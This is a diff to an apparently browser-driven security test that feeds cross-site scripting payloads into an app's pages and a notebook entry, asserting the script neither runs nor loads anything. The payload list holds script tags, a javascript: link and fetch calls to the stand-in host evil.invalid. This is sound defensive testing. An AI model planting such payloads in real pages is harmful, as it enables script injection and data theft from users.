@@ -14,6 +14,7 @@ import pytest
 from core.corpus.importing import import_files
 from core.corpus.store import Library
 from core.model.config import InterestConfig
+from core.notebook import Finding, Notebook, Seen
 from core.training.training import train
 
 HIT = "window.hit=1;fetch('http://evil.invalid/x')"
@@ -44,7 +45,10 @@ PAYLOADS = [
     f"$\\href{{javascript:{HIT}}}{{x}}$ $$\\includegraphics{{http://evil.invalid/f.png}}$$",
     f":red[x] :material/home: `x` <b>bold</b> \u2028 \u202e <math><script>{HIT}</script></math>",
 ]
-PAGES = ("", "quality", "timeline", "explain", "what_if", "compare", "corpora", "notebook")
+PAGES = (
+    *("", "users", "quality", "timeline", "explain", "what_if", "compare", "corpora"),
+    "notebook",
+)
 NAME = "hostile"
 
 
@@ -81,7 +85,20 @@ def user(app: str, app_library: Path) -> Iterator[str]:
     )
     import_files(library, NAME, [source], items)
     train(library.corpus(NAME), library, replace(InterestConfig(), epochs=1))
-    yield f"{PAYLOADS[0]}0"
+    user_id, notebook = f"{PAYLOADS[0]}0", Notebook.open(library)
+    seen = Seen(
+        page="timeline",
+        title=PAYLOADS[11],
+        query=urlencode({"corpus": NAME, "user": user_id}),
+        corpus=NAME,
+        corpus_id=library.corpus(NAME).corpus_id,
+        user_id=user_id,
+        item=PAYLOADS[1],
+        sentence=PAYLOADS[3],
+    )
+    finding = notebook.save(Finding(PAYLOADS[0], seen, "\n".join(PAYLOADS)))
+    yield user_id
+    notebook.delete(finding)
     for kind in ("corpora", "models"):
         shutil.rmtree(app_library / kind / NAME)
 
@@ -107,7 +124,7 @@ def test_hostile_words_run_nothing_and_load_nothing(
     tab.page.wait_for_timeout(2_000)
     tab.idle()
     assert nothing_ran(tab.page), name
-    if name not in ("", "corpora", "notebook", "quality"):  # the words are there, as words
+    if name not in ("", "users", "corpora", "quality"):  # the words are there, as words
         tab.page.wait_for_function("() => document.body.innerText.includes('window.hit')")
     export = tab.page.get_by_role("button", name="Export", exact=True)
     if export.count():
